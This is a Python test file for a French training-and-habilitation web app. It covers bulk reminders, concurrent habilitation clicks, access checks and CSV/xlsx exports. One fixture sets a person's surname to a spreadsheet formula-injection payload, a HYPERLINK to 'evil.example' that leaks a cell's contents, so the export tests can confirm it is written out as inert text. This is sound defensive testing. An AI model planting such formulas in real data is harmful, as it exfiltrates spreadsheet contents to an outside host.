"""Acting on many from the roster: reminders (once a week, whoever clicks), habilitations for
several trained people at once, and the CSV and `.xlsx` exports read back."""

import csv
import io
from datetime import date, datetime
from html import unescape

from openpyxl import load_workbook

from directory.structures import StructureRole
from tests.conftest import world_fixture
from tests.factories import PASSWORD, attach, make_legal_rep, make_organisation, make_person
from webapp.extensions import db
from webapp.models import AuditEvent, Habilitation, OutboxMessage, Reminder

from .concurrency import at_once
from .steps import make_exam_ready, pass_exam

FORMULA = '=HYPERLINK("http://evil.example/?"&A2;"clic")'


@world_fixture
def world(app):
    """A centralised EJ: its RL and mandataire, two people who have not started, one reading,
    two who passed the exam (one of whose names is a formula), one in another EJ."""
    mine = make_organisation(name="Mon EJ", establishments=2)
    other = make_organisation(name="Autre EJ", establishments=1)
    people = {
        "rl": make_legal_rep(mine, email="rl@exemple.fr"),
        "delegate": make_person("mandataire@exemple.fr"),
        "idle1": make_person("idle1@exemple.fr", first_name="Ida", last_name="Inactive"),
        "idle2": make_person("idle2@exemple.fr", first_name="Igor", last_name="Immobile"),
        "trained1": make_person("forme1@exemple.fr", first_name="Flore", last_name="Formée"),
        "trained2": make_person("forme2@exemple.fr", first_name="Fred", last_name=FORMULA),
        "stranger": make_person("ailleurs@exemple.fr", last_name="Ailleurs"),
    }
    attach(people["delegate"], mine, StructureRole.DELEGATE)
    for who in ("idle1", "idle2", "trained1"):
        attach(people[who], mine)
    attach(people["trained2"], mine, establishment=mine.establishments[1])
    attach(people["stranger"], other)
    db.session.commit()
    for who in ("trained1", "trained2"):
        make_exam_ready(people[who])
        pass_exam(people[who])
    return {"mine": mine, "other": other, **people}


def act(client, world, action, *who):
    return client.post(f"/structures/{world['mine'].id}/personnes/actions",
                       data={"action": action, "personne": [world[w].id for w in who]})


def reminders_to(email):
    return db.session.scalars(db.select(OutboxMessage).filter_by(
        recipient=email, kind="training_reminder")).all()


def test_the_rl_reminds_the_people_not_started(client, auth, world):
    """Does « relancer » e-mail each person with the course's link, log it, and refuse a
    second one the same week (and anyone outside the structure)?"""
    auth.login("rl@exemple.fr")
    response = act(client, world, "relancer", "idle1", "idle2", "stranger")
    assert response.status_code == 303
    [message] = reminders_to("idle1@exemple.fr")
    assert "/formation/" in message.body_text and "Mon EJ" in message.body_text
    assert len(reminders_to("idle2@exemple.fr")) == 1
    assert reminders_to("ailleurs@exemple.fr") == []  # another EJ's person: ignored
    assert db.session.scalar(db.select(db.func.count(AuditEvent.id)).filter_by(
        action="person.reminded")) == 2
    page = unescape(client.get(response.headers["Location"]).get_data(as_text=True))
    assert "Relance envoyée à 2 personnes" in page and "Relancé(e) le" in page
    again = act(client, world, "relancer", "idle1", "trained1")
    page = unescape(client.get(again.headers["Location"]).get_data(as_text=True))
    assert "a déjà été relancé(e) cette semaine" in page
    assert "a déjà réalisé l'e-learning" in page
    assert len(reminders_to("idle1@exemple.fr")) == 1
    assert reminders_to("forme1@exemple.fr") == []


def test_a_week_later_a_new_reminder_goes(client, auth, world, clock):
    auth.login("rl@exemple.fr")
    act(client, world, "relancer", "idle1")
    clock.advance(days=6)
    auth.login("rl@exemple.fr")  # a new session: the last one has expired
    act(client, world, "relancer", "idle1")
    assert len(reminders_to("idle1@exemple.fr")) == 1
    clock.advance(days=1, minutes=1)
    auth.login("rl@exemple.fr")
    act(client, world, "relancer", "idle1")
    assert len(reminders_to("idle1@exemple.fr")) == 2


def two_clicks_each(app, *emails):
    """Two signed-in browsers for each of `emails` (a double click from each person)."""
    clients = []
    for email in emails:
        for _ in range(2):
            client = app.test_client()
            client.post("/login", data={"email": email, "password": PASSWORD})
            clients.append(client)
    return clients


def test_two_rls_reminding_at_once_send_one_email(app, world):
    """Two clicks, the RL and the mandataire at the same instant: one e-mail, one reminder."""
    clients = two_clicks_each(app, "rl@exemple.fr", "mandataire@exemple.fr")
    url = f"/structures/{world['mine'].id}/personnes/actions"
    data = {"action": "relancer", "personne": [world["idle1"].id, world["idle2"].id]}
    responses, failures = at_once([(client, url, data) for client in clients])
    assert failures == [], [repr(f) for f in failures]
    assert [r.status_code for r in responses] == [303] * 4
    db.session.expire_all()
    assert len(reminders_to("idle1@exemple.fr")) == 1
    assert len(reminders_to("idle2@exemple.fr")) == 1
    assert db.session.scalar(db.select(db.func.count(Reminder.id))) == 2


def test_habilitations_for_several_at_once(client, auth, world):
    """Are the two trained people habilitated in one click, and the untrained one refused
    with the reason, by name?"""
    auth.login("rl@exemple.fr")
    response = act(client, world, "habiliter", "trained1", "trained2", "idle1")
    assert response.status_code == 303
    granted = set(db.session.scalars(db.select(Habilitation.user_id)))
    assert granted == {world["trained1"].id, world["trained2"].id}
    page = unescape(client.get(response.headers["Location"]).get_data(as_text=True))
    assert "Habilitation « Gestionnaire RPPS+ » enregistrée pour 2 personnes" in page
    assert "Habilitation impossible : Ida Inactive n'a pas encore réussi" in page
    again = act(client, world, "habiliter", "trained1")
    page = unescape(client.get(again.headers["Location"]).get_data(as_text=True))
    assert "est déjà habilité(e)" in page
    assert db.session.scalar(db.select(db.func.count(Habilitation.id))) == 2


def test_two_managers_habilitating_at_once_record_one_habilitation(app, world):
    """The RL and the mandataire click « habiliter » for the same trained person at the same
    instant, twice each: one habilitation in force, one audit event, and no error page."""
    clients = two_clicks_each(app, "rl@exemple.fr", "mandataire@exemple.fr")
    url = f"/structures/{world['mine'].id}/personnes/actions"
    data = {"action": "habiliter", "personne": [world["trained1"].id]}
    responses, failures = at_once([(client, url, data) for client in clients])
    assert failures == [], [repr(f) for f in failures]
    assert [r.status_code for r in responses] == [303] * 4
    db.session.expire_all()
    in_force = db.session.scalars(db.select(Habilitation).filter_by(
        user_id=world["trained1"].id, withdrawn_at=None)).all()
    assert len(in_force) == 1
    assert db.session.scalar(db.select(db.func.count(AuditEvent.id)).filter_by(
        action="habilitation.granted", target_id=world["trained1"].id)) == 1


def test_only_those_who_act_may_act(client, auth, world):
    """A trainer looks but does not remind; nothing ticked or nonsense: a message, no 500."""
    auth.login("rl@exemple.fr")
    for data in ({"action": "relancer"}, {"action": "x", "personne": "1"},
                 {"action": "relancer", "personne": ["abc", "-1", ""]}):
        response = client.post(f"/structures/{world['mine'].id}/personnes/actions", data=data)
        assert response.status_code == 303
    assert db.session.scalar(db.select(db.func.count(Reminder.id))) == 0
    auth.logout()
    auth.login("idle1@exemple.fr")
    assert act(client, world, "relancer", "idle2").status_code == 404


def test_the_exports_read_back(client, auth, world):
    """CSV (`;`, BOM) and `.xlsx` give the same table: ISO dates or real date cells, statuses
    and their dates and authors in columns of their own, a formula kept as text."""
    auth.login("rl@exemple.fr")
    act(client, world, "habiliter", "trained2")
    raw = client.get(f"/structures/{world['mine'].id}/personnes.csv").get_data()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header, lines = rows[0], {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    fred = lines["Fred"]
    assert fred["Nom"] == "'" + FORMULA
    assert fred["Formation"] == "Formé(e)" and fred["Habilitation"] == "Habilité(e)"
    assert date.fromisoformat(fred["Date de l'habilitation"])
    assert date.fromisoformat(fred["Date de l'attestation"])
    assert fred["Habilitation accordée par"] == world["rl"].full_name
    assert fred["FINESS du site"] == world["mine"].establishments[1].finess
    assert lines["Ida"]["Formation"] == "Pas commencé"

    response = client.get(f"/structures/{world['mine'].id}/personnes.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == header
    assert sheet.auto_filter.ref.startswith("A1:")
    cells = {row[1]: dict(zip(header, row, strict=True)) for row in values[1:]}
    assert cells["Fred"]["Nom"] == FORMULA  # the text itself...
    name_cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[1].value == "Fred")
    assert name_cell.data_type == "s"  # ...written as text, never as a formula
    assert isinstance(cells["Fred"]["Date de l'habilitation"], datetime)
    assert cells["Fred"]["Habilitation"] == "Habilité(e)"


def test_the_best_score_is_a_number_to_sort_on(client, auth, world, app):
    """Is the best score a whole number on the exam's length, in its header, so that 9 sorts
    before 20 (never the text « 20/20 »)? And does each column fit its content?"""
    auth.login("rl@exemple.fr")
    questions = app.config["EXAM_QUESTIONS"]
    column = f"Meilleur score (sur {questions})"
    rows = list(csv.reader(io.StringIO(client.get(
        f"/structures/{world['mine'].id}/personnes.csv").get_data().decode("utf-8-sig")),
        delimiter=";"))
    lines = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert lines["Flore"][column] == str(questions) and lines["Ida"][column] == ""
    sheet = load_workbook(io.BytesIO(client.get(
        f"/structures/{world['mine'].id}/personnes.xlsx").get_data())).active
    header = [cell.value for cell in sheet[1]]
    cells = {row[1].value: dict(zip(header, row, strict=True))
             for row in sheet.iter_rows(min_row=2)}
    assert cells["Flore"][column].value == questions
    assert cells["Flore"][column].data_type == "n"
    assert cells["Ida"][column].value is None
    for index, label in enumerate(header):
        cells_of_column = [label] + [str(row[label].value or "") for row in cells.values()]
        letter = sheet.cell(row=1, column=index + 1).column_letter
        assert sheet.column_dimensions[letter].width >= min(
            60, max(len(value) for value in cells_of_column)), label


def test_a_reminder_from_the_persons_page(client, auth, world):
    """Can the RL remind one person from their page, and land back there with the date?"""
    auth.login("rl@exemple.fr")
    url = f"/structures/{world['mine'].id}/personnes/{world['idle2'].id}"
    assert "Relancer par e-mail" in client.get(url).get_data(as_text=True)
    response = client.post(f"/structures/{world['mine'].id}/personnes/actions", data={
        "action": "relancer", "personne": world["idle2"].id, "fiche": world["idle2"].id})
    assert response.status_code == 303 and response.headers["Location"].endswith(url)
    page = unescape(client.get(url).get_data(as_text=True))
    assert "Relance envoyée à 1 personne : Igor Immobile" in page
    assert "Dernière relance</dt><dd>aucune" not in page
    assert len(reminders_to("idle2@exemple.fr")) == 1
